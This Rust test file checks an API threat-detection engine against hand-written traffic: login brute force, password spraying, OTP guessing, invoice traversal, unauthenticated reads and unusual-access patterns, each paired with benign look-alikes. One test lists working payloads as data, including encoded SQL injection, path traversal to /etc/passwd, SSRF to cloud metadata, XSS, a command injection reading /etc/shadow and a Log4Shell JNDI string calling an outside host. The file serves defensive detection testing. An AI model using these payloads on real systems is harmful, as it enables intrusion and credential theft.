//! Generalisation: hand-written traffic in styles the demo generator never produces (other
//! frameworks' login forms and field names, other attack tools and payload encodings, IPv6
//! sources, accounts known only from a bearer token's `sub`, other host and network naming),
//! each with a close look-alike that must stay silent.
#[path = "event_support.rs"]
mod support;
use base64::Engine as _;
use support::*;

const FIREFOX: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0";
const SAFARI_IOS: &str = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1";

/// An unsigned-looking bearer token whose only identity claim is `sub`.
fn bearer(sub: &str) -> String {
    let b64 = |s: &str| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(s);
    format!(
        "Bearer {}.{}.c2lnbmF0dXJl",
        b64(r#"{"alg":"ES256","typ":"JWT"}"#),
        b64(&format!(
            r#"{{"sub":"{sub}","iat":1709510400,"scope":"read"}}"#
        ))
    )
}

fn subjects(evs: &[engine::event::EventFinding], key: &str) -> Vec<String> {
    evs.iter()
        .filter(|e| e.key == key)
        .map(|e| {
            e.ip.map(|i| i.to_string())
                .or(e.account.clone())
                .unwrap_or_default()
        })
        .collect()
}

/// Spring Security form login (`j_username`/`j_password`, failures redirect to `?error`) from
/// an IPv6 address: one user, many passwords.
#[test]
fn spring_form_password_bruteforce_from_ipv6() {
    let ip = "2a01:4f8:c17:1a2b::7";
    let exs: Vec<Ex> = (0..40)
        .map(|i| {
            rec(T0 + i * 3_000, ip, "POST", "/j_spring_security_check")
                .host("portal.example.de")
                .ua("Mozilla/5.0 (compatible; Hydra)")
                .form(&format!(
                    "j_username=h.mueller&j_password=Sommer{}!",
                    2000 + i
                ))
                .status(302)
                .resp_header("location", "https://portal.example.de/login?error")
        })
        .collect();
    let evs = run(exs);
    assert_eq!(
        subjects(&evs, "password_bruteforce"),
        vec![ip],
        "{:?}",
        keys(&evs)
    );

    // A shared office NAT: 40 different people log in successfully with their own passwords.
    let exs: Vec<Ex> = (0..40)
        .map(|i| {
            rec(
                T0 + i * 20_000,
                "2a01:4f8:c17:1a2b::8",
                "POST",
                "/j_spring_security_check",
            )
            .host("portal.example.de")
            .ua(FIREFOX)
            .form(&format!("j_username=user{i}&j_password=S3cure-{i}-pass"))
            .status(302)
            .resp_header("location", "https://portal.example.de/home")
        })
        .collect();
    let evs = run(exs);
    assert!(
        !keys(&evs)
            .iter()
            .any(|k| k.ends_with("bruteforce") || *k == "dictionary_attack"),
        "{:?}",
        keys(&evs)
    );
}

/// Rails/Devise login (`user[email]`, `user[password]`): many e-mails, one password (a common
/// password sprayed over a list of accounts).
#[test]
fn rails_nested_fields_username_bruteforce() {
    // Devise's HTML form: `user[email]`, `user[password]`, failures redirect back to the form.
    let exs: Vec<Ex> = (0..30)
        .map(|i| {
            rec(T0 + i * 2_000, "45.155.205.17", "POST", "/users/sign_in")
                .host("app.example.io")
                .ua("Go-http-client/2.0")
                .form(&format!(
                    "authenticity_token=x{i}&user%5Bemail%5D=person{i}%40mail.example&user%5Bpassword%5D=Winter2024%21&commit=Log+in"
                ))
                .status(302)
                .resp_header("location", "https://app.example.io/users/sign_in")
        })
        .collect();
    let evs = run(exs);
    assert_eq!(subjects(&evs, "username_bruteforce"), vec!["45.155.205.17"]);
    // The same users each logging in once, from their own addresses: nothing.
    let exs: Vec<Ex> = (0..30)
        .map(|i| {
            rec(
                T0 + i * 2_000,
                &format!("81.2.69.{}", i + 10),
                "POST",
                "/users/sign_in.json",
            )
            .host("app.example.io")
            .ua(SAFARI_IOS)
            .json(&format!(
                r#"{{"user":{{"email":"person{i}@mail.example","password":"pw-{i}-x"}}}}"#
            ))
            .status(if i % 6 == 0 { 401 } else { 200 })
            .resp(if i % 6 == 0 {
                r#"{"error":"Invalid Email or password."}"#
            } else {
                r#"{"id":1,"token":"abc"}"#
            })
        })
        .collect();
    assert!(run(exs).is_empty());
}

/// OTP verification with other names (`/api/auth/otp/verify`, `{"phone","otp"}`), status 400 on
/// a wrong code; a user mistyping twice is silent.
#[test]
fn otp_bruteforce_other_names() {
    let exs: Vec<Ex> = (0..60)
        .map(|i| {
            rec(
                T0 + i * 1_000,
                "2001:db8:85a3::8a2e:370:7334",
                "POST",
                "/api/auth/otp/verify",
            )
            .ua("okhttp/4.12.0")
            .json(&format!(
                r#"{{"phone":"+4915112345678","otp":"{:06}"}}"#,
                100_000 + i * 7
            ))
            .status(400)
            .resp(r#"{"message":"invalid otp"}"#)
        })
        .collect();
    let evs = run(exs);
    assert_eq!(
        subjects(&evs, "sms_code_bruteforce"),
        vec!["2001:db8:85a3::8a2e:370:7334"],
        "{:?}",
        keys(&evs)
    );
    let exs: Vec<Ex> = (0..3)
        .map(|i| {
            rec(
                T0 + i * 20_000,
                "2001:db8:85a3::1",
                "POST",
                "/api/auth/otp/verify",
            )
            .ua(SAFARI_IOS)
            .json(&format!(
                r#"{{"phone":"+4915112345678","otp":"{}"}}"#,
                ["482913", "482931", "482193"][i as usize]
            ))
            .status(if i < 2 { 400 } else { 200 })
        })
        .collect();
    assert!(run(exs).is_empty());
}

/// Attack payloads in encodings and places the demo does not use, with no WAF verdict; and the
/// benign text that looks most like them.
#[test]
fn obfuscated_payloads_without_waf() {
    let attacks = [
        (
            "GET",
            "/search",
            Some("q=1%2527%2520OR%25201%253D1--%2520-"),
            None,
        ),
        (
            "GET",
            "/items",
            Some("sort=name/**/UNION/**/SELECT/**/password,1/**/FROM/**/users"),
            None,
        ),
        (
            "GET",
            "/files",
            Some("name=..%252f..%252f..%252fetc%252fpasswd"),
            None,
        ),
        (
            "GET",
            "/preview",
            Some("url=http://0xA9FEA9FE/latest/meta-data/iam/"),
            None,
        ),
        (
            "GET",
            "/preview",
            Some("url=http://[::ffff:169.254.169.254]/latest/"),
            None,
        ),
        (
            "POST",
            "/comments",
            None,
            Some(r#"{"body":"<svg/onload=alert(document.domain)>"}"#),
        ),
        (
            "POST",
            "/ping",
            None,
            Some(r#"{"host":"8.8.8.8;cat /etc/shadow"}"#),
        ),
        (
            "GET",
            "/lookup",
            Some("id=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2F198.51.100.9%2Fa%7D"),
            None,
        ),
    ];
    for (i, (method, path, query, body)) in attacks.iter().enumerate() {
        let ip = format!("2602:fed2:7106::{:x}", i + 1);
        let mut e = rec(T0, &ip, method, path).ua(FIREFOX);
        if let Some(q) = query {
            e = e.query(q);
        }
        if let Some(b) = body {
            e = e.json(b);
        }
        let evs = run(vec![e]);
        assert_eq!(
            subjects(&evs, "api_attack"),
            vec![ip.clone()],
            "{method} {path} {query:?} {body:?}"
        );
    }
    let benign = [
        (
            "GET",
            "/search",
            Some("q=O%27Brien%27s%20Irish%20pub%20-%20best%20of%202024"),
            None,
        ),
        (
            "GET",
            "/search",
            Some("q=rock%20%26%20roll%3B%20select%20your%20favourite"),
            None,
        ),
        (
            "GET",
            "/files",
            Some("name=reports%2F2024%2F..summary.pdf"),
            None,
        ),
        (
            "GET",
            "/preview",
            Some("url=https%3A%2F%2Fwww.example.org%2Fblog%2Fpost-1"),
            None,
        ),
        (
            "POST",
            "/comments",
            None,
            Some(r#"{"body":"Use <b>bold</b> and a -- dash; it's 1=1 simple"}"#),
        ),
        (
            "POST",
            "/ping",
            None,
            Some(r#"{"host":"status.example.net"}"#),
        ),
        (
            "GET",
            "/lookup",
            Some("template=Hello%20%24%7Bname%7D%2C%20your%20order"),
            None,
        ),
    ];
    for (method, path, query, body) in benign {
        let mut e = rec(T0, "2602:fed2:7106::ff", method, path).ua(FIREFOX);
        if let Some(q) = query {
            e = e.query(q);
        }
        if let Some(b) = body {
            e = e.json(b);
        }
        let evs = run(vec![e]);
        assert!(
            evs.is_empty(),
            "{method} {path} {query:?} {body:?}: {:?}",
            keys(&evs)
        );
    }
}

/// Accounts known only from a bearer token's `sub` (no account field, no session cookie): an
/// account walking invoice numbers is traversing; the same account reading its own few
/// invoices is not.
#[test]
fn account_from_jwt_sub_only() {
    let token = bearer("auth0|65f1c2e9a1b2c3d4e5f60718");
    let exs: Vec<Ex> = (0..120)
        .map(|i| {
            rec(
                T0 + i * 1_500,
                "2a02:8108:1140:5d00::1",
                "GET",
                &format!("/api/v3/invoices/{}", 70_000 + i),
            )
            .ua("python-httpx/0.27.0")
            .header("authorization", &token)
            .resp(r#"{"invoice":{"total":"19.99","currency":"EUR"}}"#)
        })
        .collect();
    let evs = run(exs);
    let walkers = subjects(&evs, "account_data_traversal");
    assert_eq!(
        walkers,
        vec!["auth0|65f1c2e9a1b2c3d4e5f60718"],
        "{:?}",
        keys(&evs)
    );
    let exs: Vec<Ex> = [70_112, 70_541, 71_003]
        .iter()
        .enumerate()
        .map(|(i, n)| {
            rec(
                T0 + i as i64 * MIN,
                "2a02:8108:1140:5d00::1",
                "GET",
                &format!("/api/v3/invoices/{n}"),
            )
            .ua(SAFARI_IOS)
            .header("authorization", &token)
            .resp(r#"{"invoice":{"total":"19.99","currency":"EUR"}}"#)
        })
        .collect();
    assert!(run(exs).is_empty());
}

/// An API every client calls with a bearer token; an address without one reads customers'
/// records. The same reads on an API that never asks for a credential are the API's risk,
/// not an event.
#[test]
fn unauthorized_access_where_everyone_else_authenticates() {
    let record = |t: i64, ip: &str, path: &str, auth: bool, i: i64| {
        let e = rec(t, ip, "GET", path)
            .host("crm.example.net")
            .resp(&format!(
                r#"{{"name":"Client {i}","phone":"+33612345{i:03}"}}"#
            ))
            .found(1001, &format!("+33612345{i:03}"))
            .found(1003, &format!("{i} rue de Rivoli, Paris"));
        if auth {
            e.header("authorization", &bearer(&format!("agent-{}", i % 12)))
        } else {
            e
        }
    };
    // 60 calls of 12 agents, then 30 of one address without a credential.
    let traffic = |path: &str, agents_authenticate: bool, intruder: &str| {
        let mut exs: Vec<Ex> = (0..60)
            .map(|i| {
                let agent = format!("198.51.100.{}", i % 12 + 1);
                record(T0 + i * MIN, &agent, path, agents_authenticate, i)
            })
            .collect();
        exs.extend((0..30).map(|i| record(T0 + HOUR + i * 2_000, intruder, path, false, 100 + i)));
        exs
    };
    let evs = run(traffic(
        "/v2/contacts",
        true,
        "2600:3c03::f03c:94ff:fe1d:2a",
    ));
    assert_eq!(
        subjects(&evs, "unauthorized_sensitive_access"),
        vec!["2600:3c03::f03c:94ff:fe1d:2a"],
        "{:?}",
        keys(&evs)
    );
    let exs = traffic("/v2/directory", false, "2600:3c03::f03c:94ff:fe1d:2b");
    let evs = run(exs);
    assert!(
        subjects(&evs, "unauthorized_sensitive_access").is_empty(),
        "{:?}",
        keys(&evs)
    );
}

/// An intranet on an IPv6 unique-local network (`fd12:3456:789a::/48`), `*.internal` host: a
/// desk in the same site never seen before is ordinary; a host in another ULA site is an
/// unusual address; a public address abroad is an unusual location.
#[test]
fn ipv6_intranet_unusual_address_and_location() {
    let host = "wiki.acme.internal";
    let mut base = Vec::new();
    for d in 0..8 {
        for i in 0..12 {
            let t = T0 + d * DAY + 9 * HOUR + i * 17 * MIN;
            base.push(
                rec(
                    t,
                    &format!("fd12:3456:789a:{:x}::{:x}", i % 3, i + 1),
                    "GET",
                    "/rest/api/content",
                )
                .host(host)
                .ua(FIREFOX),
            );
        }
    }
    let late = T0 + 7 * DAY + 15 * HOUR;
    let mut exs = base.clone();
    for i in 0..5 {
        exs.push(
            rec(
                late + i * 1_000,
                "fd12:3456:789a:7::99",
                "GET",
                "/rest/api/content",
            )
            .host(host)
            .ua(FIREFOX),
        );
    }
    let evs = run(exs);
    assert!(evs.is_empty(), "a new desk in the site: {:?}", keys(&evs));
    let mut exs = base.clone();
    for i in 0..5 {
        exs.push(
            rec(
                late + i * 1_000,
                "fdab:cdef:1::5",
                "GET",
                "/rest/api/content",
            )
            .host(host)
            .ua(FIREFOX),
        );
    }
    let evs = run(exs);
    assert_eq!(
        subjects(&evs, "internal_api_unusual_ip"),
        vec!["fdab:cdef:1::5"],
        "{:?}",
        keys(&evs)
    );
    let mut exs = base;
    for i in 0..5 {
        exs.push(
            rec(
                late + i * 1_000,
                "2a02:26f0:2b::5",
                "GET",
                "/rest/api/content",
            )
            .host(host)
            .ua(FIREFOX)
            .at(country("BR")),
        );
    }
    let evs = run(exs);
    assert_eq!(
        subjects(&evs, "internal_api_unusual_location"),
        vec!["2a02:26f0:2b::5"]
    );
    assert!(subjects(&evs, "internal_api_unusual_ip").is_empty());
}

/// A week of 9-to-5 use of a payroll API (the log starts with the first call, 09:00 on day one);
/// a source reading it through the night of day eight is unusual, a colleague who works a long
/// day with a late hour is not.
#[test]
fn unusual_time_on_a_short_history() {
    let mut base = Vec::new();
    for d in 0..8 {
        for i in 0..8 {
            let t = T0 + d * DAY + 9 * HOUR + i * 61 * MIN;
            base.push(
                rec(
                    t,
                    &format!("10.8.{}.{}", i % 2, i + 10),
                    "GET",
                    "/payroll/runs",
                )
                .host("hr.acme.internal"),
            );
        }
    }
    let night = T0 + 7 * DAY + 21 * HOUR;
    let mut exs = base.clone();
    exs.extend((0..25).map(|i| {
        rec(night + i * 4 * MIN, "10.8.0.10", "GET", "/payroll/runs").host("hr.acme.internal")
    }));
    let evs = run(exs);
    assert_eq!(
        subjects(&evs, "unusual_time_access"),
        vec!["10.8.0.10"],
        "{:?}",
        keys(&evs)
    );
    let mut exs = base;
    let day8 = T0 + 7 * DAY + 10 * HOUR;
    exs.extend((0..20).map(|i| {
        rec(day8 + i * 15 * MIN, "10.8.1.11", "GET", "/payroll/runs").host("hr.acme.internal")
    }));
    exs.extend((0..12).map(|i| {
        rec(
            day8 + 11 * HOUR + i * 4 * MIN,
            "10.8.1.11",
            "GET",
            "/payroll/runs",
        )
        .host("hr.acme.internal")
    }));
    let evs = run(exs);
    assert!(
        subjects(&evs, "unusual_time_access").is_empty(),
        "{:?}",
        keys(&evs)
    );
}

/// A polling client after a week of people: an IPv6 source at 200 calls a minute is abnormal;
/// the busiest human source of the same API is not.
#[test]
fn high_frequency_from_ipv6_after_a_week() {
    let mut exs = Vec::new();
    for d in 0..8 {
        for u in 0..20 {
            for j in 0..6 {
                let t = T0 + d * DAY + 10 * HOUR + u * 7 * MIN + j * 20_000;
                exs.push(
                    rec(
                        t,
                        &format!("2a00:23c4:{u:x}::1"),
                        "GET",
                        "/api/notifications",
                    )
                    .ua(SAFARI_IOS),
                );
            }
        }
    }
    let storm = T0 + 7 * DAY + 14 * HOUR;
    exs.extend((0..1_000).map(|i| {
        rec(
            storm + i * 300,
            "2a00:23c4:ffff::1",
            "GET",
            "/api/notifications",
        )
        .ua(SAFARI_IOS)
    }));
    let evs = run(exs);
    assert_eq!(
        subjects(&evs, "abnormal_high_frequency"),
        vec!["2a00:23c4:ffff::1"],
        "{:?}",
        keys(&evs)
    );
}
